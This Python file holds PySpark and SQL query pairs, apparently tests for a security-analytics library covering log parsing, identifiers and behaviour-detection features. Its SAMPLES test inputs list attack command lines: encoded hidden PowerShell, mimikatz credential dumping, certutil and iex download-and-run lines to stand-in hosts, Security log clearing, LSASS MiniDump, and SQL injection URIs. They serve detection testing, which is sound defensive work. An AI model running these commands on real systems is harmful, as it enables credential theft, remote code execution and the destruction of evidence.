"""Queries over the scalar functions, the features and the parsers, on lines rendered from the event table."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from provspark.functions import features as feat
from provspark.functions import ids
from provspark.operators import normalize, parsers
from provspark.plans.adapt import PROV, edges, load
from provspark.plans.registry import query
from provspark.sources import files

K = "(props->>'$.k')::INTEGER"


def _events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return load(spark, sf_dir, "events").withColumn("k", F.get_json_object("props", "$.k").cast("int"))


@query(f"""SELECT event_id, CASE WHEN user_id <> 0 THEN 'proc:h' || (user_id % 8) || ':' || user_id END AS proc, 'file:h1:/tmp/' || event_type AS file,
  'sock:10.0.0.1:' || k || '->?:?/tcp' AS sock, 'reg:?:hklm\\' || event_type AS reg, 'url:site/' || event_type AS url, 'host:h' || (user_id % 8) AS host,
  'user:h1:' || event_type AS usr FROM (SELECT *, {K} AS k FROM events)""")
def f1_f7_identifiers(spark: SparkSession, sf_dir: str) -> DataFrame:
    e, lit = _events(spark, sf_dir), F.lit
    host, kind, none = F.concat(lit("h"), F.col("user_id") % 8), F.col("event_type"), lit(None).cast("string")
    return e.select(
        "event_id", ids.proc_id(host, F.col("user_id").cast("string"), none).alias("proc"), ids.file_id(lit("h1"), F.concat(lit("/TMP/"), F.upper(kind))).alias("file"),
        ids.socket_id(lit("10.0.0.1"), F.col("k").cast("string"), none, none, lit("TCP")).alias("sock"), ids.registry_id(none, F.concat(lit("HKLM\\"), F.upper(kind))).alias("reg"),
        ids.url_id(lit("site"), F.concat(lit("/"), kind)).alias("url"), ids.host_id(host).alias("host"), ids.user_id(lit("h1"), F.upper(kind)).alias("usr"),
    )


@query("""SELECT page_id, string_split(url, '/')[-1] AS base,
  CASE WHEN contains(string_split(url, '/')[-1], '.') THEN '.' || lower(string_split(string_split(url, '/')[-1], '.')[-1]) END AS ext,
  nullif(lower(regexp_extract(url, '^(.*)/[^/]*$', 1)), '') AS dir, left(url, 100) AS short FROM pages""")
def f8_f9_paths(spark: SparkSession, sf_dir: str) -> DataFrame:
    u = F.col("url")
    return load(spark, sf_dir, "pages").select("page_id", ids.basename(u).alias("base"), ids.extension(u).alias("ext"), ids.parent_dir(u).alias("dir"), ids.trunc100(u).alias("short"))


IPS = "CASE k % 5 WHEN 0 THEN '10.1.1.' || k WHEN 1 THEN '172.' || k || '.0.1' WHEN 2 THEN '192.168.0.' || k WHEN 3 THEN NULL ELSE '8.8.8.' || k END"


@query(f"""SELECT event_id, src, coalesce(regexp_matches(src, '^(10\\.|192\\.168\\.|172\\.(1[6-9]|2[0-9]|3[01])\\.)'), true) AS private,
  CASE WHEN NOT coalesce(regexp_matches(src, '^(10\\.|192\\.168\\.|172\\.(1[6-9]|2[0-9]|3[01])\\.)'), true) THEN src ELSE '1.1.1.1' END AS external,
  try_cast(value_text AS BIGINT) AS number FROM (SELECT *, {IPS} AS src, CASE WHEN k % 3 = 0 THEN 'x' || k ELSE k::VARCHAR END AS value_text FROM (SELECT *, {K} AS k FROM events))""")
def f10_f11_addresses(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = _events(spark, sf_dir).withColumn("src", F.expr(IPS)).withColumn("t", F.expr("CASE WHEN k % 3 = 0 THEN 'x' || k ELSE cast(k AS string) END"))
    src = F.col("src")
    return e.select("event_id", "src", ids.is_private_ip(src).alias("private"), ids.external_ip(src, F.lit("1.1.1.1")).alias("external"), ids.to_int(F.col("t")).alias("number"))


@query(f"""WITH {PROV} SELECT event_id, CASE WHEN dst_type = 'FILE' THEN string_split(dst_name, '/')[-1] END AS object_basename,
  CASE WHEN dst_type = 'FILE' THEN nullif(lower(regexp_extract(dst_name, '^(.*)/[^/]*$', 1)), '') END AS target_dir, string_split(src_name, '/')[-1] AS image_basename FROM prov""")
def f12_derived_columns(spark: SparkSession, sf_dir: str) -> DataFrame:
    is_file, name = F.col("dst_type") == "FILE", F.col("dst_name")
    return edges(spark, sf_dir).select("event_id", F.when(is_file, ids.basename(name)).alias("object_basename"), F.when(is_file, ids.parent_dir(name)).alias("target_dir"), ids.basename(F.col("src_name")).alias("image_basename"))


@query(f"WITH {PROV} SELECT event_id, sha1(src_id || '|' || dst_id || '|' || edge_type || '|' || ts) AS edge_hash, sha256(src_id || '|' || coalesce(nullif(dst_name, 'tar'), '')) AS content FROM prov")
def f13_f18_hashes(spark: SparkSession, sf_dir: str) -> DataFrame:
    content = ids.content_hash(F.col("src_id"), F.nullif("dst_name", F.lit("tar")))
    return edges(spark, sf_dir).select("event_id", ids.event_id(F.col("src_id"), F.col("dst_id"), F.col("edge_type"), F.col("ts")).alias("edge_hash"), content.alias("content"))


@query("""SELECT o_orderkey, epoch(o_orderdate)::BIGINT AS iso_zone, epoch(o_orderdate)::BIGINT AS iso, epoch(o_orderdate)::BIGINT AS spaced,
  epoch(date_trunc('day', o_orderdate))::BIGINT AS day, epoch(o_orderdate)::BIGINT AS millis, NULL::BIGINT AS bad FROM orders""")
def f14_to_epoch(spark: SparkSession, sf_dir: str) -> DataFrame:
    d = F.col("o_orderdate")
    as_text = lambda p: ids.to_epoch(F.date_format(d, p))
    seconds = (F.datediff(d.cast("date"), F.lit("1970-01-01").cast("date")).cast("long")) * 86_400 + F.hour(d) * 3600 + F.minute(d) * 60 + F.second(d)
    return load(spark, sf_dir, "orders").select(
        "o_orderkey", as_text("yyyy-MM-dd'T'HH:mm:ss.SSS'Z'").alias("iso_zone"), as_text("yyyy-MM-dd'T'HH:mm:ss").alias("iso"), as_text("yyyy-MM-dd HH:mm:ss").alias("spaced"),
        as_text("yyyy-MM-dd").alias("day"), ids.to_epoch((seconds * 1000).cast("string")).alias("millis"), ids.to_epoch(F.lit("yesterday")).alias("bad"),
    )


@query("""SELECT page_id, list_filter(regexp_split_to_array(lower(url), '[\\\\/.:\\-_]+'), lambda p: len(p) > 0 AND len(p) < 40 AND NOT regexp_matches(p, '^\\d+$')) AS parts,
  regexp_matches('file:' || page_id, '^[a-z]+:[0-9a-fA-F-]+$') AS placeholder FROM pages""")
def f15_f16_subtokens(spark: SparkSession, sf_dir: str) -> DataFrame:
    return load(spark, sf_dir, "pages").select("page_id", ids.subtokens(F.col("url")).alias("parts"), ids.is_placeholder_name(F.concat(F.lit("file:"), "page_id")).alias("placeholder"))


@query("SELECT o_orderkey, ('0x' || left(md5('42|' || o_orderstatus || '|' || o_orderkey), 8))::BIGINT % 100 AS bucket FROM orders")
def f17_stable_bucket(spark: SparkSession, sf_dir: str) -> DataFrame:
    return load(spark, sf_dir, "orders").select("o_orderkey", ids.stable_bucket(F.col("o_orderstatus"), F.col("o_orderkey")).alias("bucket"))


@query(f"""WITH w AS (SELECT event_id, value, ['HIGH', 'medium', 'low', 'odd'][k % 4 + 1] AS word, [NULL, 'T1059', 'T1059.001', 't1071'][k % 4 + 1] AS a, [NULL, 'T1059', '', 'T1059.001', 'T1071'][k % 5 + 1] AS b,
  [['attack.t1059.004', 'x'], ['other'], ['attack.execution', 'ATTACK.T1105']][k % 3 + 1] AS tags, k FROM (SELECT *, {K} AS k FROM events))
SELECT event_id, c AS confidence, CASE WHEN c >= 0.85 THEN 'critical' WHEN c >= 0.7 THEN 'high' WHEN c >= 0.4 THEN 'medium' ELSE 'low' END AS severity,
  CASE WHEN x IS NULL AND y IS NULL THEN 'both_null' WHEN x IS NULL OR y IS NULL THEN 'one_null' WHEN x = y THEN 'exact' WHEN string_split(x, '.')[1] = string_split(y, '.')[1] THEN 'parent' ELSE 'conflict' END AS agreement,
  [ 'T1059.004', NULL, 'T1105'][k % 3 + 1] AS attack, epoch_us(make_timestamp(1700000000000000 + k * 1000000)) AS at_us
FROM (SELECT *, CASE lower(word) WHEN 'high' THEN 0.9 WHEN 'medium' THEN 0.6 WHEN 'low' THEN 0.3 ELSE 0.5 END::DOUBLE AS c, upper(a) AS x, upper(nullif(b, '')) AS y FROM w)""")
def f19_f21_words(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = _events(spark, sf_dir)
    pick = lambda xs: F.element_at(F.array(*[F.lit(x) for x in xs]), (F.col("k") % len(xs) + 1).cast("int"))
    tags = F.element_at(F.array(*[F.array(*map(F.lit, t)) for t in (["attack.t1059.004", "x"], ["other"], ["attack.execution", "ATTACK.T1105"])]), (F.col("k") % 3 + 1).cast("int"))
    c = ids.confidence_number(pick(["HIGH", "medium", "low", "odd"]))
    millis = F.lit(1_700_000_000_000) + F.col("k").cast("long") * 1000
    when = ids.to_instant(F.when(F.col("k") % 2 == 0, millis).otherwise(F.floor(millis / 1000)))
    return e.select(
        "event_id", c.alias("confidence"), ids.severity_of(c).alias("severity"),
        ids.mitre_agreement(pick([None, "T1059", "T1059.001", "t1071"]), pick([None, "T1059", "", "T1059.001", "T1071"])).alias("agreement"),
        ids.attack_id(tags).alias("attack"), F.unix_micros(when).alias("at_us"),
    )


@query("""SELECT doc_id, left(trim(regexp_replace(regexp_replace(text, '[^\\x20-\\x7E]+', ' ', 'g'), '\\s+', ' ', 'g')), 250) AS clean,
  100000 + list_reduce(list_transform(string_split(sha1(source), ''), lambda d: instr('0123456789abcdef', d) - 1), lambda r, d: (r * 16 + d) % 9000, 0)::INTEGER AS rule_number,
  CASE lang WHEN 'en' THEN 14 WHEN 'de' THEN 12 ELSE 7 END AS level FROM documents""")
def f22_exports(spark: SparkSession, sf_dir: str) -> DataFrame:
    word = F.when(F.col("lang") == "en", "Critical").when(F.col("lang") == "de", "high").otherwise("?")
    return load(spark, sf_dir, "documents").select("doc_id", ids.ascii_clean(F.col("text")).alias("clean"), ids.rule_number(F.col("source")).alias("rule_number"), ids.severity_level(word).alias("level"))


@query(f"SELECT event_id, {K} AS k, 0 AS broken, 0 AS missing FROM events")
def f23_json_fallback(spark: SparkSession, sf_dir: str) -> DataFrame:
    good, bad = ids.parsed_json(F.col("props"), "map<string,int>"), ids.parsed_json(F.concat(F.lit("{"), "props"), "map<string,int>")
    return load(spark, sf_dir, "events").select("event_id", F.element_at(good, "k").alias("k"), F.size(bad).alias("broken"), F.size(ids.parsed_json(F.lit(None).cast("string"), "array<string>")).alias("missing"))


# Inputs for the features: a value of each kind by the event's number.
SAMPLES = {
    "image": [r"C:\Windows\System32\cmd.exe", r"C:\Tools\mimikatz.exe", "/usr/bin/python3", r"C:\W\POWERSHELL.EXE", None, r"C:\Windows\System32\certutil.exe", "bash.exe/"],
    "parent_image": [r"C:\Office\WINWORD.EXE", r"C:\P\chrome.exe", r"C:\Windows\cmd.exe", None, "explorer.exe"],
    "command_line": [
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4ALgBkAA==", 'mimikatz "sekurlsa::logonpasswords" exit', "chrome --type=renderer", "certutil -urlcache -split -f http://x/y.exe c:\\y.exe",
        "schtasks /create /sc minute /tn evil", "echo x | bash", "powershell -ExecutionPolicy bypass New-Object Net.WebClient", "iex (iwr https://a)", None, "whoami /all", "wevtutil cl Security",
        "A" * 64, "rundll32 comsvcs.dll, MiniDump", "CreateRemoteThread", "net user bob",
    ],
    "target": [r"C:\Users\bob\report.pdf.locked", r"C:\Windows\Temp\a.exe", r"\\srv\share\invoice.doc.exe", "/tmp/x.sh", r"C:\Users\a\AppData\Local\Temp\z.js", None, r"C:\Windows\System32\d.dll", r"C:\X\Startup\r.lnk", "notes.txt", "noext"],
    "registry_key": [r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\x", r"HKLM\System\Services\svc\ImagePath", None, r"HKCU\Winlogon\Shell", r"HKCU\Other"],
    "http_uri": ["/a?id=1 union select 1", "/x.php?cmd=ls", "/../etc", "/ok", None, "/<script>", "/a?q=or 1=1"],
}


def activity(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = load(spark, sf_dir, "events")
    pick = lambda xs: F.element_at(F.array(*[F.lit(x).cast("string") for x in xs]), (F.col("event_id") % len(xs) + 1).cast("int"))
    return e.select("event_id", *[pick(v).alias(k) for k, v in SAMPLES.items()])


def _sql_text(x: str | None) -> str:
    return "NULL" if x is None else "'" + x.replace("'", "''") + "'"


ACTIVITY = "SELECT event_id, " + ", ".join(f"[{', '.join(map(_sql_text, v))}][event_id % {len(v)} + 1] AS {k}" for k, v in SAMPLES.items()) + " FROM events"


def _features_sql(rows: str = ACTIVITY, others: str = "") -> str:
    """SQL of the features over ``rows`` (event_id, the six inputs), with ``others`` of its columns."""
    slashed = lambda c: f"replace(lower(coalesce({c}, '')), '\\', '/')"
    name = lambda c: f"string_split(rtrim({slashed(c)}, '/'), '/')[-1]"
    within = lambda c, xs: f"{c} IN ({', '.join(map(_sql_text, xs))})"
    matches = lambda c, p: f"regexp_matches({c}, {_sql_text(p)})"
    ext = f"regexp_extract({name('target')}, '(\\.[^.]*)$', 1)"
    target = slashed("target")
    sql = {
        "f_image_is_lolbin": within(name("image"), feat.LOLBINS), "f_image_is_offensive_tool": within(name("image"), feat.OFFENSIVE_TOOLS),
        "f_image_is_shell": within(name("image"), feat.SHELLS), "f_parent_is_office": within(name("parent_image"), feat.OFFICE),
        "f_parent_is_browser": within(name("parent_image"), feat.BROWSERS),
        "f_parent_shell_child_lolbin": within(name("parent_image"), feat.SHELLS) + " AND " + within(name("image"), feat.LOLBINS),
        "f_parent_office_child_shell": within(name("parent_image"), feat.OFFICE) + " AND " + within(name("image"), feat.SHELLS),
        "f_target_in_temp": matches(target, "/temp/|/tmp/|appdata/local/temp"), "f_target_in_appdata": f"contains({target}, '/appdata/')",
        "f_target_in_system32": matches(target, "/system32/|/syswow64/"), "f_target_in_user_profile": matches(target, "/users/[^/]+/"),
        "f_target_unc_path": f"starts_with({target}, '//')", "f_ext_is_ransomware": within(ext, feat.RANSOM_EXT), "f_ext_is_executable": within(ext, feat.EXECUTABLE_EXT),
        "f_ext_is_document": within(ext, feat.DOCUMENT_EXT),
        "f_ext_double_suspicious": within(f"regexp_extract({name('target')}, '(\\.[^.]*)\\.[^.]*$', 1)", feat.DOCUMENT_EXT) + " AND " + within(ext, feat.EXECUTABLE_EXT),
        "f_target_run_key": matches("lower(registry_key)", feat.RUN_KEYS), "f_target_services_imagepath": matches("lower(registry_key)", feat.SERVICE_KEYS),
        "f_target_autorun_location": matches(target, feat.AUTORUN_PLACES),
    } | {k: matches("command_line", p) for k, p in feat.COMMAND_PATTERNS.items()} | {k: matches("http_uri", p) for k, p in feat.URI_PATTERNS.items()}
    flags = ", ".join(f"coalesce({sql[k]}, false)::INTEGER AS {k}" for k in feat.FEATURES)
    return f"SELECT *, {' + '.join(feat.FEATURES)} AS positives FROM (SELECT event_id, {others}{flags} FROM ({rows}))"


@query(_features_sql())
def f24_f62_behaviour(spark: SparkSession, sf_dir: str) -> DataFrame:
    return feat.engineer_features(activity(spark, sf_dir)).withColumn("positives", feat.count_positives()).select("event_id", *feat.FEATURES, "positives")


@query(f"SELECT event_id, positives, (positives >= 2)::INTEGER AS label FROM ({_features_sql()}) WHERE positives <> 1")
def w5_relabel_by_count(spark: SparkSession, sf_dir: str) -> DataFrame:
    counted = f24_f62_behaviour(spark, sf_dir)
    return feat.relabel_by_count(counted, F.col("positives")).select("event_id", "positives", "label")


@query("SELECT event_id, CASE WHEN event_id % 3 = 0 OR event_id % 2 = 0 THEN 'full' ELSE 'degraded' END AS quality FROM events")
def f64_row_quality(spark: SparkSession, sf_dir: str) -> DataFrame:
    n = F.col("event_id")
    return load(spark, sf_dir, "events").select("event_id", feat.feature_row_quality(n % 3 == 0, F.when(n % 2 == 0, n)).alias("quality"))


KINDS = ("stream_tcp", "suricata", "access_combined", "XmlWinEventLog:Sysmon", "pan_traffic", "mysql_x", "WinHostMon", "auditd", "WinRegistry", "other")


def raw_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One raw line an event, in the format of its number; every 50th line is cut short."""
    e = _events(spark, sf_dir).withColumn("kind", (F.col("event_id") % len(KINDS)).cast("int")).withColumn("p", F.col("user_id") + 1)
    text = (
        F.when(F.col("kind") == 0, F.expr("""concat('{"src_ip":["10.0.0.', k, '"],"dest_ip":"8.8.0.', k, '","src_port":', p, ',"dest_port":80,"bytes":', k, if(k % 2 = 0, ',"site":"s.example","uri_path":"/p"', ''), '}')"""))
        .when(F.col("kind") == 1, F.expr("""concat('{"src_ip":"10.0.0.', k, '","dest_ip":"8.8.0.', k, '","src_port":', p, ',"dest_port":443,"proto":"UDP","flow":{"bytes_toserver":', k, '},"alert":{"severity":2}}')"""))
        .when(F.col("kind") == 2, F.expr("""concat('10.0.0.', k, ' site - - [01/Jan/2024:00:00:00 +0000] "GET /u', p, ' HTTP/1.1" 200 ', if(k % 2 = 0, '-', cast(k AS string)))"""))
        .when(F.col("kind") == 3, F.expr("""concat('<EventID>', element_at(array('1', '3', '7', '11', '13', '99'), k % 6 + 1), '</EventID><Computer>c1</Computer>', "<Data Name='ProcessId'>", p, "</Data><Data Name='Image'>C:\\\\W\\\\a.exe</Data><Data Name='CommandLine'></Data><Data Name='ParentProcessId'>7</Data><Data Name='ParentImage'>C:\\\\b.exe</Data><Data Name='TargetFilename'>C:\\\\F", k, "</Data><Data Name='TargetObject'>HKLM</Data><Data Name='ImageLoaded'>x.dll</Data><Data Name='DestinationIp'>9.9.9.9</Data><Data Name='DestinationPort'>", p, "</Data>")"""))
        .when(F.col("kind") == 4, F.expr("""concat('Jan 1 fw 1,a,b,c,d,e,f,10.0.0.', k, ',8.8.0.', k, ',x,y,z,bob,v,ssl,', repeat('_,', 9), p, ',22,q,w,e,tcp,r,', k, ',1,2,3,s,4')"""))
        .when(F.col("kind") == 5, F.expr("""concat('user="Bob', k, '" hostname="db', p, '" Duration="1.5"', if(k % 2 = 0, '', ' port="3306"'))"""))
        .when(F.col("kind") == 6, F.expr("""concat('Name="svc', k, '"\\nProcessId=', p, '\\nPath=C:\\\\s.exe', if(k % 2 = 0, concat('\\nLocalPort=', k, '\\nProtocol=TCP'), ''))"""))
        .when(F.col("kind") == 7, F.expr("""concat('type=SYSCALL syscall=', element_at(array('execve', 'openat', 'connect', 'zzz'), k % 4 + 1), ' pid=', p, ' exe="/usr/bin/x" name="/F', k, '" pid=1')"""))
        .when(F.col("kind") == 8, F.expr("""concat('pid=', p, ' process_image="C:\\\\r.exe" key_path="HKLM\\\\K', k, '" data="v"')"""))
        .otherwise("nothing")
    )
    short = F.when(F.col("event_id") % 50 < 10, F.substring(text, 1, 2)).otherwise(text)
    kind = F.element_at(F.array(*map(F.lit, KINDS)), F.col("kind") + 1)
    return e.select("event_id", (F.col("event_id") + 1_700_000_000).alias("_time"), kind.alias("sourcetype"), F.concat(F.lit("host"), F.col("user_id") % 8).alias("host"), short.alias("_raw"), F.lit(0).alias("label"), F.lit(None).cast("string").alias("scenario"))


PARSED_SQL = f"""
WITH e AS (SELECT event_id, user_id, user_id + 1 AS p, {K} AS k, event_id % 10 AS kind, 'host' || (user_id % 8) AS host, event_id % 50 < 10 AS cut FROM events)
SELECT event_id,
  CASE WHEN cut THEN NULL WHEN kind = 0 AND k % 2 = 0 OR kind = 2 THEN 'HOST' WHEN kind IN (0, 1, 4) THEN 'SOCKET' WHEN kind = 5 THEN 'USER' WHEN kind IN (3, 6, 7, 8) THEN 'PROCESS' END AS subject_type,
  CASE WHEN cut THEN NULL WHEN kind = 0 AND k % 2 = 0 OR kind = 2 THEN 'host:' || host WHEN kind IN (0, 4) THEN 'sock:10.0.0.' || k || ':' || p || '->?:?/tcp' WHEN kind = 1 THEN 'sock:10.0.0.' || k || ':' || p || '->?:?/udp'
    WHEN kind = 3 THEN CASE WHEN k % 6 = 0 THEN 'proc:c1:7' ELSE 'proc:c1:' || p END WHEN kind = 5 THEN 'user:db' || p || ':bob' || k WHEN kind IN (6, 7, 8) THEN 'proc:' || host || ':' || p END AS subject_id,
  CASE WHEN cut THEN NULL WHEN kind = 0 AND k % 2 = 0 THEN 'url:s.example/p' WHEN kind IN (0) THEN 'sock:?:?->8.8.0.' || k || ':80/tcp' WHEN kind = 1 THEN 'sock:?:?->8.8.0.' || k || ':443/udp' WHEN kind = 2 THEN 'url:' || host || '/u' || p
    WHEN kind = 3 THEN CASE k % 6 WHEN 0 THEN 'proc:c1:' || p WHEN 1 THEN 'sock:?:?->9.9.9.9:' || p || '/tcp' WHEN 2 THEN 'file:c1:x.dll' WHEN 3 THEN 'file:c1:c:\\f' || k WHEN 4 THEN 'reg:c1:hklm' END
    WHEN kind = 4 THEN 'sock:?:?->8.8.0.' || k || ':22/tcp' WHEN kind = 5 THEN 'host:db' || p WHEN kind = 6 AND k % 2 = 0 THEN 'sock:*:' || k || '/tcp'
    WHEN kind = 7 AND k % 4 IN (0, 1) THEN 'file:' || host || ':/f' || k WHEN kind = 8 THEN 'reg:' || host || ':hklm\\k' || k END AS object_id,
  CASE WHEN cut THEN NULL WHEN kind = 0 AND k % 2 = 0 OR kind IN (2, 5) THEN 'ACCESS' WHEN kind IN (0, 1, 4) THEN 'CONNECT' WHEN kind = 3 THEN ['FORK', 'CONNECT', 'LOAD', 'WRITE', 'MODIFY_REG', 'EXEC'][k % 6 + 1]
    WHEN kind = 6 AND k % 2 = 0 THEN 'CONNECT' WHEN kind = 7 THEN ['EXEC', 'READ', 'CONNECT', NULL][k % 4 + 1] WHEN kind = 8 THEN 'MODIFY_REG' END AS edge_type,
  CASE WHEN cut THEN NULL WHEN kind IN (0, 4) THEN k::VARCHAR WHEN kind = 5 THEN '1500' END AS amount,
  CASE WHEN cut THEN NULL WHEN kind IN (3, 7, 8) THEN p::VARCHAR END AS process_id
FROM e"""


#: What the features see of each raw line: the six inputs by its format.
INPUTS_SQL = f"""SELECT event_id, subject_type, edge_type, CASE WHEN edge_cut THEN NULL WHEN kind = 3 THEN 'C:\\W\\a.exe' WHEN kind = 6 THEN 'C:\\s.exe' WHEN kind = 7 THEN '/usr/bin/x' WHEN kind = 8 THEN 'C:\\r.exe' END AS image,
  CASE WHEN kind = 3 AND NOT edge_cut THEN 'C:\\b.exe' END AS parent_image, NULL::VARCHAR AS command_line,
  CASE WHEN edge_cut THEN NULL WHEN kind = 3 AND k % 6 = 2 THEN 'x.dll' WHEN kind = 3 AND k % 6 = 3 THEN 'C:\\F' || k WHEN kind = 7 AND k % 4 IN (0, 1) THEN '/F' || k END AS target,
  CASE WHEN edge_cut THEN NULL WHEN kind = 3 THEN 'HKLM' WHEN kind = 8 THEN 'HKLM\\K' || k END AS registry_key,
  CASE WHEN edge_cut THEN NULL WHEN kind = 0 AND k % 2 = 0 THEN '/p' WHEN kind = 2 THEN '/u' || p END AS http_uri
  FROM ({PARSED_SQL}) JOIN (SELECT event_id, user_id + 1 AS p, {K} AS k, event_id % 10 AS kind, event_id % 50 < 10 AS edge_cut FROM events) USING (event_id)"""


@query(PARSED_SQL)
def p1_p10_parse_logs(spark: SparkSession, sf_dir: str) -> DataFrame:
    parsed = parsers.parse_logs(raw_lines(spark, sf_dir))
    get = lambda k: F.element_at("fields", k)
    amount = F.when(F.col("sourcetype").startswith("mysql"), get("duration")).otherwise(get("bytes"))
    return parsed.select("event_id", "subject_type", "subject_id", "object_id", "edge_type", amount.alias("amount"), get("process_id").alias("process_id"))


@query(f"""SELECT sourcetype, count(*) AS rows, avg((subject_type IS NOT NULL AND object_id IS NOT NULL AND edge_type IS NOT NULL)::INTEGER) AS fill,
  (avg((subject_type IS NOT NULL AND object_id IS NOT NULL AND edge_type IS NOT NULL)::INTEGER) >= 0.8)::INTEGER AS ok
  FROM (SELECT *, [{', '.join(map(_sql_text, KINDS))}][event_id % 10 + 1] AS sourcetype FROM ({PARSED_SQL})) GROUP BY sourcetype""")
def a13_graph_fill(spark: SparkSession, sf_dir: str) -> DataFrame:
    from provspark.operators.quality import graph_fill

    return graph_fill(parsers.parse_logs(raw_lines(spark, sf_dir)), "sourcetype")


@query(f"""SELECT 'host' || (user_id % 8) AS endpoint_id, edge_type, subject_id AS src_id, object_id AS dst_id, (event_id + 1700000000) * 1000000000 AS ts
  FROM ({PARSED_SQL}) JOIN events USING (event_id) WHERE subject_id IS NOT NULL AND object_id IS NOT NULL AND edge_type IS NOT NULL""")
def p11_w1_normalize_splunk(spark: SparkSession, sf_dir: str) -> DataFrame:
    return normalize.normalize_splunk(parsers.parse_logs(raw_lines(spark, sf_dir))).select("endpoint_id", "edge_type", "src_id", "dst_id", "ts")


def cdm_messages(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _events(spark, sf_dir).selectExpr(
        "concat('A', user_id) AS actor_id", "'SUBJECT_PROCESS' AS actor_cdm", "if(k % 11 = 0, '', concat('O', k)) AS object_id",
        "element_at(array('FILE_OBJECT_BLOCK', 'NetFlowObject', 'Odd', 'PRINCIPAL_LOCAL'), k % 4 + 1) AS object_cdm",
        "element_at(array('EVENT_READ', 'EVENT_CONNECT', 'EVENT_CLOSE', 'EVENT_CLONE'), k % 4 + 1) AS action", "if(user_id % 2 = 0, 'run', '') AS exec", "if(k % 3 = 0, '/x', NULL) AS path",
        "if(k % 5 = 0, 'bad', cast(event_id AS string)) AS timestamp", "0 AS label",
    )


CDM_SQL = f"""SELECT sha1('A' || user_id || '|O' || k || '|' || action || '|' || t) AS event_id, t AS ts, ['READ', 'CONNECT', NULL, 'FORK'][k % 4 + 1] AS edge_type, 'A' || user_id AS src_id, 'O' || k AS dst_id,
  ['FILE', 'SOCKET', 'FILE', 'USER'][k % 4 + 1] AS dst_type, CASE WHEN user_id % 2 = 0 THEN 'run' ELSE 'process:A' || user_id END AS src_name,
  CASE WHEN k % 3 = 0 THEN '/x' ELSE lower(['FILE', 'SOCKET', 'FILE', 'USER'][k % 4 + 1]) || ':O' || k END AS dst_name
  FROM (SELECT *, CASE WHEN k % 5 = 0 THEN 0 ELSE event_id END::BIGINT AS t, ['EVENT_READ', 'EVENT_CONNECT', 'EVENT_CLOSE', 'EVENT_CLONE'][k % 4 + 1] AS action FROM (SELECT *, {K} AS k FROM events)) WHERE k % 11 <> 0 AND k % 4 <> 2"""


@query(CDM_SQL)
def p12_normalize_cdm(spark: SparkSession, sf_dir: str) -> DataFrame:
    return normalize.normalize_cdm(cdm_messages(spark, sf_dir)).select("event_id", "ts", "edge_type", "src_id", "dst_id", "dst_type", "src_name", "dst_name")


@query(f"""SELECT 'theia' AS dataset, count(*) AS edges FROM ({CDM_SQL})
  UNION ALL SELECT 'splunk', count(*) FROM ({PARSED_SQL}) WHERE subject_id IS NOT NULL AND object_id IS NOT NULL AND edge_type IS NOT NULL""")
def p13_w8_normalize_stream(spark: SparkSession, sf_dir: str) -> DataFrame:
    both = normalize.normalize_stream(parsers.parse_logs(raw_lines(spark, sf_dir)), cdm_messages(spark, sf_dir))
    kept = [normalize.dataset_filter(both, d) for d in ("splunk", "theia")]
    return kept[0].unionByName(kept[1]).groupBy("dataset").agg(F.count("*").alias("edges"))


def ecar_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _events(spark, sf_dir).selectExpr(
        "event_id", "element_at(array('CREATE', 'START', 'READ'), cast(event_id % 3 + 1 AS int)) AS action", "concat('a', user_id % 20) AS actorID", "concat('a', k % 20) AS objectID",
        "element_at(array('PROCESS', 'FILE', 'FLOW', 'MODULE', 'THREAD'), k % 5 + 1) AS object", "cast(user_id % 3 AS bigint) AS pid", "cast(1 AS bigint) AS ppid", "concat('2019-09-23T11:22:33.', 100 + k, '-04:00') AS timestamp",
        "map('image_path', 'i', 'parent_image_path', 'p', 'command_line', if(k % 2 = 0, 'c d', ''), 'file_path', if(k % 7 = 0, NULL, 'f'), 'module_path', 'm', 'dest_ip', '1', 'dest_port', '2', 'src_ip', '3', 'src_port', '4', 'direction', 'out') AS properties",
    )


ECAR = f"""SELECT event_id, ['CREATE', 'START', 'READ'][event_id % 3 + 1] AS action, 'a' || (user_id % 20) AS actorID, 'a' || (k % 20) AS objectID, ['PROCESS', 'FILE', 'FLOW', 'MODULE', 'THREAD'][k % 5 + 1] AS object, user_id % 3 AS pid, k
  FROM (SELECT *, {K} AS k FROM events)"""
ECAR_NAMED = f"SELECT *, CASE WHEN object = 'PROCESS' THEN 'p' ELSE 'i' END AS actorname, CASE object WHEN 'PROCESS' THEN 'i' WHEN 'FILE' THEN 'f' WHEN 'FLOW' THEN '1 2' WHEN 'MODULE' THEN 'm' END AS objectname FROM ({ECAR}) WHERE object <> 'THREAD' AND NOT (object = 'FILE' AND k % 7 = 0)"


@query(f"SELECT event_id, actorname, objectname FROM ({ECAR_NAMED})")
def p14_ecar_semantics(spark: SparkSession, sf_dir: str) -> DataFrame:
    return normalize.ecar_semantics(ecar_events(spark, sf_dir)).select("event_id", "actorname", "objectname")


ECAR_LAST = f"SELECT * FROM ({ECAR_NAMED}) WHERE action NOT IN ('START', 'TERMINATE') AND actorID <> objectID QUALIFY row_number() OVER (PARTITION BY action, actorID, objectID, object, pid ORDER BY event_id DESC) = 1"


@query(f"SELECT event_id, action, actorID, objectID, object, pid FROM ({ECAR_LAST})")
def p15_ecar_dedup(spark: SparkSession, sf_dir: str) -> DataFrame:
    named = normalize.ecar_semantics(ecar_events(spark, sf_dir))
    return normalize.ecar_traversal_dedup(named, position="event_id").select("event_id", "action", "actorID", "objectID", "object", "pid")


@query(f"""SELECT event_id, string_split(CASE object WHEN 'PROCESS' THEN 'p ' || action || ' i ' || CASE WHEN k % 2 = 0 THEN 'c d' ELSE '' END WHEN 'FILE' THEN 'i ' || action || ' f'
  WHEN 'FLOW' THEN 'i ' || action || ' 3 4 1 2 out' WHEN 'MODULE' THEN 'i ' || action || ' m' END, ' ') AS phrase FROM ({ECAR_LAST})""")
def p16_ecar_phrase(spark: SparkSession, sf_dir: str) -> DataFrame:
    last = normalize.ecar_traversal_dedup(normalize.ecar_semantics(ecar_events(spark, sf_dir)), position="event_id")
    return normalize.ecar_phrase(last).select("event_id", "phrase")


